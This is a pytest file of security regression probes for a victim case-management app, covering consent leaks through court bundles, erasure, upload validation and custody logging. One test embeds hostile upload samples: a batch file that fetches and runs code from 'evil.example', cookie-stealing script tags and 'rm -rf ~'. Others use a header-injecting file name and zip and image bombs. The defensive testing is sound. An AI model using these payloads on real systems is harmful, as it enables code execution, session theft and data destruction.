"""The security review of issue 15 (documents, bundles, custody): its probes, each asserting the
safe behaviour. Every one failed before its fix (see the commit that added this file)."""

from __future__ import annotations

import io
import re
import zipfile

from sqlalchemy import select

from mdt.cases import services as cases
from mdt.documents import bundle
from mdt.documents import services as documents
from mdt.documents.models import CustodyEvent, Document
from mdt.extensions import db
from tests import factories as f


def _upload(client, case_id, files, **data):
    form = {"kind": "contract", **data, "file": [(io.BytesIO(body), name) for name, body in files]}
    return client.post(f"/cases/{case_id}/documents/new", data=form, content_type="multipart/form-data")


def _api(world, who):
    return {"Authorization": f"Bearer {f.token(world[who])}"}


def _police_case(world, given="Nok"):
    """A case led by the police, shared (every part) with the legal aid NGO, consent to go to court."""
    from mdt.referrals import services as referrals

    police = world["police"]
    case_ = f.case(police, given=given)
    referrals.record_consent(
        police,
        case_,
        {
            "purpose": "share_with_agency",
            "given": True,
            "agency_id": world.agencies["legal"].id,
            "scope": f.ALL_PARTS,
        },
    )
    cases.set_team(police, case_, [world.agencies["legal"].id], [])
    referrals.record_consent(police, case_, {"purpose": "legal_action", "given": True})
    db.session.commit()
    return case_


def _made_bundle(world, cases_, contents):
    """A matter of ``cases_``, a hearing, and a bundle (made) of ``contents``: documents added by
    (member, case, data, bytes, name)."""
    from mdt.legal.services.hearings import schedule_hearing

    matter = f.matter(world, cases_)
    hearing = schedule_hearing(world["lawyer"], matter, {"starts_at": f.at(20), "purpose": "Witnesses"})
    added = [
        documents.add(world[who], c, data, io.BytesIO(body), name) for who, c, data, body, name in contents
    ]
    db.session.commit()
    made = bundle.request_bundle(world["lawyer"], hearing, [d.id for d in added])
    db.session.commit()
    bundle.make(made.id)
    db.session.commit()
    assert made.status == "ready"
    return matter, hearing, added, made


# ---------------------------------------------------------------- the court bundle


def test_a_bundle_does_not_open_a_claimants_medical_papers_to_a_coordinator_off_the_team(world, client, auth):
    """The labour office's coordinator is on no team of the case (the medical report answers 404
    to them), but coordinators see every matter of the MDT, and the bundle is a document of the
    matter: the bundle's file hands them the medical report's pages."""
    case = f.client_case(world)
    _matter, _hearing, (medical,), made = _made_bundle(
        world,
        [case],
        [("social", case, {"kind": "medical", "title": "Clinic"}, f.pdf(2, "HIV-STATUS"), "c.pdf")],
    )
    headers = _api(world, "coord_labour")
    assert client.get(f"/api/v1/documents/{medical.id}/content", headers=headers).status_code == 404
    assert client.get(f"/api/v1/documents/{made.document_id}/content", headers=headers).status_code == 404
    auth.login("coordlab@test.org")
    assert client.get(f"/documents/{made.document_id}/file").status_code == 404


def test_a_bundle_does_not_open_one_claimants_papers_to_another_claimants_team(world, client):
    """Two claimants: Malee (social welfare's case) and Nok (the police's). The police see the
    matter through Nok's case, so they read the bundle, which holds Malee's documents they
    cannot open one by one."""
    malee = f.client_case(world)
    nok = _police_case(world)
    _matter, _hearing, (contract,), made = _made_bundle(
        world, [malee, nok], [("social", malee, {"kind": "medical"}, f.pdf(1, "MALEE-CLINIC"), "m.pdf")]
    )
    headers = _api(world, "police")
    assert client.get(f"/api/v1/documents/{contract.id}", headers=headers).status_code == 404
    assert client.get(f"/api/v1/documents/{made.document_id}/content", headers=headers).status_code == 404


def test_a_bundle_respects_the_consent_scope_of_a_team_agency(world, client):
    """The labour office is on Malee's team with a consent that opens only the person: it sees
    the matter (the team of a claimant's case), so it must not read her medical report in the
    bundle."""
    from mdt.referrals import services as referrals

    case = f.client_case(world)
    social = world["social"]
    referrals.record_consent(
        social,
        case,
        {
            "purpose": "share_with_agency",
            "given": True,
            "agency_id": world.agencies["labour"].id,
            "scope": ["person"],
        },
    )
    cases.set_team(social, case, [world.agencies["legal"].id, world.agencies["labour"].id], [])
    db.session.commit()
    _matter, _hearing, (medical,), made = _made_bundle(
        world, [case], [("social", case, {"kind": "medical"}, f.pdf(1, "CLINIC"), "m.pdf")]
    )
    headers = _api(world, "labour")
    assert client.get(f"/api/v1/documents/{medical.id}", headers=headers).status_code == 404
    assert client.get(f"/api/v1/documents/{made.document_id}/content", headers=headers).status_code == 404


def test_a_withdrawn_consent_also_closes_the_bundle(world, client):
    """The issue: "an agency that loses consent loses the documents at once". The legal aid NGO loses
    Malee's contract when she withdraws her consent to share with it, but keeps reading it
    through the bundle (a matter document, open to the matter's lawyers whatever the consent)."""
    from mdt.referrals import services as referrals

    case = f.client_case(world)
    _matter, _hearing, (contract,), made = _made_bundle(
        world, [case], [("social", case, {"kind": "contract"}, f.pdf(1, "CONTRACT"), "c.pdf")]
    )
    sharing = max((c for c in case.consents if c.purpose == "share_with_agency"), key=lambda c: c.id)
    referrals.withdraw_consent(world["social"], sharing, "She asked")
    db.session.commit()
    headers = _api(world, "lawyer")
    assert client.get(f"/api/v1/documents/{contract.id}", headers=headers).status_code == 404
    assert client.get(f"/api/v1/documents/{made.document_id}/content", headers=headers).status_code == 404


def test_a_bundle_of_restricted_matter_papers_is_restricted(world, client):
    """A restricted document of the matter opens only to those who work on it; put in a bundle,
    it opens to every coordinator of the MDT (the bundle is added unrestricted)."""
    from mdt.legal.services.hearings import schedule_hearing

    case = f.client_case(world)
    matter = f.matter(world, [case])
    hearing = schedule_hearing(world["lawyer"], matter, {"starts_at": f.at(20), "purpose": "Witnesses"})
    secret = documents.add(
        world["lawyer"],
        matter,
        {"kind": "court_paper", "restricted": True, "title": "Witness address"},
        io.BytesIO(f.pdf()),
        "w.pdf",
    )
    db.session.commit()
    made = bundle.request_bundle(world["lawyer"], hearing, [secret.id])
    db.session.commit()
    bundle.make(made.id)
    db.session.commit()
    headers = _api(world, "coord_labour")
    assert client.get(f"/api/v1/documents/{secret.id}", headers=headers).status_code == 404
    assert client.get(f"/api/v1/documents/{made.document_id}/content", headers=headers).status_code == 404


def test_erasure_removes_a_persons_documents_from_the_bundles_that_copy_them(world):
    """Once the matter is closed, the person's erasure removes the files of their case's
    documents; the court bundle, a matter document, keeps a copy of them."""
    from mdt.privacy.retention import _deidentify_cases

    case = f.client_case(world)
    matter, _hearing, _added, made = _made_bundle(
        world, [case], [("social", case, {"kind": "photo", "title": "Bruises"}, f.png(), "injury.png")]
    )
    matter.stage = "closed"
    db.session.commit()
    _deidentify_cases([case.id])
    db.session.commit()
    result = db.session.get(Document, made.document_id)
    assert result.removed_at is not None and result.current.blob is None


def test_de_identification_removes_the_persons_name_from_the_documents_records(world):
    """De-identification deletes the files but keeps each document's title, file name and
    description of its versions, and the custody chain's "uploaded" event holds the file name in
    its (append-only, so never erasable) detail: "Passport of Malee Srisuk" stays."""
    from sqlalchemy import text

    from mdt.privacy.retention import _deidentify_cases

    case = f.client_case(world)
    documents.add(
        world["social"],
        case,
        {"kind": "identity_document", "title": "Passport of Malee Srisuk"},
        io.BytesIO(f.png()),
        "Malee Srisuk passport.png",
    )
    db.session.commit()
    _deidentify_cases([case.id])
    db.session.commit()
    for table in ("document", "document_version", "custody_event"):
        rows = db.session.execute(text(f"SELECT * FROM {table}")).all()
        assert "Srisuk" not in repr(rows), (table, rows)


def test_a_heic_photo_does_not_break_the_bundle(world):
    """HEIC (an iPhone's photos) is accepted, and offered for a bundle; the bundle then fails
    (Pillow cannot open it) instead of a page saying it is supplied apart (``PRINTABLE`` is
    never used)."""
    from mdt.legal.services.hearings import schedule_hearing

    case = f.client_case(world)
    matter = f.matter(world, [case])
    hearing = schedule_hearing(world["lawyer"], matter, {"starts_at": f.at(20), "purpose": "Witnesses"})
    heic = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 200
    photo = documents.add(world["social"], case, {"kind": "photo"}, io.BytesIO(heic), "IMG_0001.HEIC")
    db.session.commit()
    made = bundle.request_bundle(world["lawyer"], hearing, [photo.id])
    db.session.commit()
    try:
        bundle.make(made.id)
    except Exception as exc:  # noqa: BLE001
        raise AssertionError(f"the bundle failed: {exc!r}") from None
    db.session.commit()
    assert made.status == "ready"


# ---------------------------------------------------------------- translations


def test_a_translation_of_a_medical_report_is_not_wider_open_than_the_original(world, client):
    """A translation's parts default to the episodes whatever its original's: the English
    translation of a medical report (assessment) opens to an agency whose consent excludes the
    assessment, and its page names the hidden original."""
    from mdt.referrals import services as referrals

    case = f.client_case(world)
    social = world["social"]
    medical = documents.add(
        social, case, {"kind": "medical", "title": "HIV test result"}, io.BytesIO(f.pdf()), "m.pdf"
    )
    english = documents.add(
        social,
        case,
        {"kind": "translation", "translation_of_id": medical.id},
        io.BytesIO(b"Result: positive.\n"),
        "m-en.txt",
    )
    referrals.record_consent(
        social,
        case,
        {
            "purpose": "share_with_agency",
            "given": True,
            "agency_id": world.agencies["legal"].id,
            "scope": ["person", "episodes", "plan", "notes"],
        },
    )
    db.session.commit()
    headers = _api(world, "lawyer")
    assert client.get(f"/api/v1/documents/{medical.id}", headers=headers).status_code == 404
    assert client.get(f"/api/v1/documents/{english.id}/content", headers=headers).status_code == 404


def test_a_translations_page_does_not_name_a_hidden_original(world, client, auth):
    """The page of a translation the reader may see shows its original's title (and a link)
    without asking whether the reader may see the original."""
    from mdt.referrals import services as referrals

    case = f.client_case(world)
    social = world["social"]
    medical = documents.add(
        social, case, {"kind": "medical", "title": "HIV test result"}, io.BytesIO(f.pdf()), "m.pdf"
    )
    cover = documents.add(
        social,
        case,
        {
            "kind": "translation",
            "title": "Cover letter (English)",
            "translation_of_id": medical.id,
            "parts": ["plan"],
        },
        io.BytesIO(b"Dear Sir,\n"),
        "letter-en.txt",
    )
    referrals.record_consent(
        social,
        case,
        {
            "purpose": "share_with_agency",
            "given": True,
            "agency_id": world.agencies["legal"].id,
            "scope": ["person", "episodes", "plan", "notes"],
        },
    )
    db.session.commit()
    auth.login("lawyer@test.org")
    assert client.get(f"/documents/{medical.id}").status_code == 404
    page = client.get(f"/documents/{cover.id}")
    # A translation now belongs to its original's parts too: hidden with it (the page's link to
    # the original is also shown only to one who may see the original).
    assert page.status_code == 404 or "HIV test result" not in page.get_data(as_text=True)


# ---------------------------------------------------------------- uploads


def test_web_uploads_over_two_megabytes_pass_the_csrf_check(database_template, tmp_path, world):
    """In production CSRF is on: Flask-WTF reads ``request.form`` in a before_request hook, with
    the global 2 MB MAX_CONTENT_LENGTH, before the view calls ``upload_limit()``; a 3 MB scan
    is refused with 413."""
    from tests.conftest import make_app

    served = make_app(database_template, tmp_path, WTF_CSRF_ENABLED=True)
    client = served.test_client()
    page = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    client.post("/login", data={"email": "social@test.org", "password": f.PASSWORD, "csrf_token": token})
    case = f.client_case(world)
    form = client.get(f"/cases/{case.id}/documents/new").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', form).group(1)
    body = b"Scanned wage records\n" + b"y" * (3 * 1024 * 1024)
    r = client.post(
        f"/cases/{case.id}/documents/new",
        data={"kind": "pay_slip", "csrf_token": token, "file": (io.BytesIO(body), "wages.txt")},
        content_type="multipart/form-data",
    )
    assert r.status_code == 302, r.status_code


def test_a_decompression_bomb_image_is_refused_not_a_server_error(world, client, auth):
    """A 20000 x 20000 PNG of one colour is a few kilobytes; Pillow's Image.open raises
    DecompressionBombError (not an OSError), which sniff does not catch: a 500."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("1", (20000, 20000)).save(out, format="PNG")
    case = f.client_case(world)
    auth.login("social@test.org")
    r = _upload(client, case.id, [("scan.png", out.getvalue())], kind="photo")
    assert r.status_code == 422, r.status_code


def test_a_zip_bomb_is_not_inflated_in_memory(world):
    """sniff reads an archive's ``mimetype`` member whole (``archive.read``): a 100 KB upload
    inflates to 100 MB (a 25 MB one to about 25 GB)."""
    import tracemalloc

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", b"\x00" * (100 * 1024 * 1024))
    case = f.client_case(world)
    tracemalloc.start()
    try:
        documents.add(world["social"], case, {"kind": "other"}, io.BytesIO(buffer.getvalue()), "x.odt")
    except Exception:  # noqa: BLE001  refused: fine
        pass
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 20 * 1024 * 1024, peak


def test_a_cut_short_photo_is_refused(world, client, auth):
    """The issue: "a cut-short upload: a clear message, nothing stored". A JPEG cut in half passes
    ``Image.verify()`` (which checks nothing for a JPEG) and is kept."""
    from PIL import Image

    out = io.BytesIO()
    Image.effect_noise((400, 300), 60).convert("RGB").save(out, format="JPEG", quality=95)
    body = out.getvalue()
    case = f.client_case(world)
    auth.login("social@test.org")
    r = _upload(client, case.id, [("dorm.jpg", body[: len(body) // 2])], kind="photo")
    assert r.status_code == 422, r.status_code


def test_a_script_is_not_kept_as_text(world, client, auth):
    """Anything whose first 8 KB are UTF-8 is "text/plain" (the "a script" message of
    ``_looks_like`` is never reached): a shell script, a batch file, an HTML page or an SVG is
    kept, and served back under its own name (``payslip.bat``, ``statement.html``): saved to
    disk and double-clicked, it runs."""
    case = f.client_case(world)
    auth.login("social@test.org")
    for name, body in (
        ("payslip.bat", b'@echo off\r\npowershell -c "iwr http://evil.example/x | iex"\r\n'),
        ("statement.html", b"<html><script>alert(document.cookie)</script></html>\n"),
        ("photo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n'),
        ("invoice.pdf", b"#!/bin/sh\nrm -rf ~\n"),
    ):
        r = _upload(client, case.id, [(name, body)])
        if r.status_code == 302:
            document = db.session.scalars(select(Document).order_by(Document.id.desc())).first()
            got = client.get(f"/documents/{document.id}/file")
            disposition = got.headers["Content-Disposition"]
            assert re.search(r'filename="[^"]*\.txt"', disposition), (name, disposition)


def test_the_camera_field_left_empty_does_not_count_as_a_file(world, client, auth):
    """The form has two ``file`` inputs (the files and the camera); a browser sends the empty
    camera input as a part with no name: 20 files and it make 21, refused "At most 20"."""
    case = f.client_case(world)
    auth.login("social@test.org")
    files = [(io.BytesIO(f"Receipt {i}\n".encode()), f"r{i}.txt") for i in range(20)]
    files.append((io.BytesIO(b""), ""))
    r = client.post(
        f"/cases/{case.id}/documents/new",
        data={"kind": "receipt", "file": files},
        content_type="multipart/form-data",
    )
    assert r.status_code == 302, re.findall(r"field-error[^>]*>([^<]*)", r.get_data(as_text=True))


def _raw_upload(client, url, filename_header, body, fields, headers=None):
    boundary = "----probe"
    parts = []
    for k, v in fields.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode())
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; {filename_header}\r\n'
        "Content-Type: application/octet-stream\r\n\r\n".encode()
        + body
        + b"\r\n"
    )
    parts.append(f"--{boundary}--\r\n".encode())
    return client.post(
        url,
        data=b"".join(parts),
        content_type=f"multipart/form-data; boundary={boundary}",
        headers=headers or {},
    )


def test_a_filename_with_a_line_break_does_not_break_the_download(world, client):
    """``filename*=UTF-8''a%0D%0Ab.txt`` (RFC 2231) reaches the service as "a\\r\\nb.txt", kept as
    it is; the download's Content-Disposition then carries a line break: a 500."""
    case = f.client_case(world)
    headers = _api(world, "social")
    r = _raw_upload(
        client,
        f"/api/v1/cases/{case.id}/documents",
        "filename*=UTF-8''evil%0D%0ASet-Cookie%3A%20x%3Dy.txt",
        b"A receipt.\n",
        {"kind": "receipt"},
        headers,
    )
    assert r.status_code in (201, 422), r.status_code
    if r.status_code == 201:
        made = r.get_json()
        got = client.get(f"/api/v1/documents/{made['id']}/content", headers=headers)
        assert got.status_code == 200, got.status_code
        assert not any(ord(c) < 0x20 for c in made["filename"]), made["filename"]


def test_a_filename_with_a_nul_byte_is_not_kept(world, client):
    """``filename*=UTF-8''a%00.txt``: the NUL byte is kept in the file name (PostgreSQL refuses
    NUL in text: a 500 there, as for the registry kind fixed in issue 14)."""
    case = f.client_case(world)
    headers = _api(world, "social")
    r = _raw_upload(
        client,
        f"/api/v1/cases/{case.id}/documents",
        "filename*=UTF-8''a%00b.txt",
        b"A receipt.\n",
        {"kind": "receipt"},
        headers,
    )
    assert r.status_code in (201, 422), r.status_code
    if r.status_code == 201:
        assert "\x00" not in r.get_json()["filename"]


# ---------------------------------------------------------------- custody and caching


def test_a_thumbnail_is_not_kept_in_the_browsers_cache(world, client, auth):
    """Every page about people is ``no-store``; the thumbnail of a photo (an injury, a
    passport) says ``private, max-age=3600``: kept on a shared phone's disk for an hour, and
    shown after the consent is withdrawn or the member signs out."""
    case = f.client_case(world)
    document = documents.add(world["social"], case, {"kind": "photo"}, io.BytesIO(f.png()), "injury.png")
    db.session.commit()
    auth.login("social@test.org")
    r = client.get(f"/documents/{document.id}/thumbnail")
    assert r.status_code == 200 and "no-store" in r.headers["Cache-Control"], r.headers["Cache-Control"]


def test_fetching_a_thumbnail_is_in_the_chain_of_custody(world, client, auth):
    """The thumbnail is the photo itself, smaller: reading it leaves no custody event."""
    case = f.client_case(world)
    document = documents.add(world["social"], case, {"kind": "photo"}, io.BytesIO(f.png()), "injury.png")
    db.session.commit()
    auth.login("lawyer@test.org")
    assert client.get(f"/documents/{document.id}/thumbnail").status_code == 200
    actions = db.session.scalars(
        select(CustodyEvent.action).where(CustodyEvent.document_id == document.id)
    ).all()
    assert len(actions) > 1, actions
